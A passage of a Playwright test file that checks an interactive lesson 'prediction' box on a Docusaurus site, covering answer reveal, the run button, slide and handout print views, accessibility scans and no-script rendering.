    await expect(outcome(page)).toBeHidden();
    await box(page).getByRole('button', {name: 'Compare'}).click();
    await expect(outcome(page)).toBeHidden();
    await expect(box(page).getByRole('textbox')).toBeFocused();
    await page.keyboard.type('Fourteen, if all look.');
    await expect(outcome(page)).toBeHidden();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect(outcome(page)).toBeVisible();
    await page.goto('glossary');
    await page.goto(path);
    // What is kept starts the scripts when it is seen.
    await box(page).scrollIntoViewIfNeeded();
    await expect(box(page).getByRole('textbox')).toHaveValue('Fourteen, if all look.');
    await expect(outcome(page)).toBeVisible();
    const {violations} = await new AxeBuilder({page})
      .include('.lesson-prediction')
      .disableRules('color-contrast')
      .analyze();
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
  });

  test('can be a run of the step', async ({page}) => {
    await page.goto(path);
    await hydrate(page);
    await box(page).getByRole('button', {name: 'Run'}).click();
    await expect(outcome(page)).toBeHidden();
    await box(page).getByRole('button', {name: 'Load and run'}).click();
    await expect(page.locator('.lesson-outcome').getByText('14 eyes')).toBeVisible({timeout: 30_000});
  });

  test('is folded on slides, has lines to write on in a handout, and its output among the answers', async ({page}) => {
    await page.goto(`${path}?docusaurus-data-view=present`);
    await hydrate(page);
    await expect(page.locator('.slide').filter({has: box(page)})).toHaveCount(1);
    await page.keyboard.press('End');
    await page.keyboard.press('ArrowLeft');
    await expect(box(page)).toBeInViewport();
    await expect(outcome(page)).toBeHidden();
    await page.emulateMedia({media: 'print'});
    await expect(box(page).getByText('What the page shows')).toBeHidden();
    await page.emulateMedia({media: null});

    await page.goto(`${path}?docusaurus-data-view=handout`);
    await hydrate(page);
    await page.emulateMedia({media: 'print'});
    await expect(box(page)).toBeVisible();
    await expect(box(page).getByRole('textbox')).toBeHidden();
    await expect(outcome(page)).toBeHidden();
    const lines = await box(page).evaluate((element) => getComputedStyle(element, '::after').content);
    expect(lines).toContain('____');
    await expect(page.getByRole('region', {name: 'Answers'})).toContainText(
      /How many eyes do seven owls have\?[^]*14 eyes[^]*Each owl looks/,
    );
  });

  test('is a section that opens without scripts, and all of it prints', async ({browser}) => {
    const page = await browser.newPage({javaScriptEnabled: false});
    await page.goto(path);
    await expect(box(page).getByRole('textbox')).toBeHidden();
    await expect(outcome(page)).toBeHidden();
    await page.emulateMedia({media: 'print'});
    await expect(outcome(page)).toBeVisible();
    await page.emulateMedia({media: null});
    await box(page).getByText('What the page shows').click();
    await expect(outcome(page)).toBeVisible();
    await page.close();
  });
});
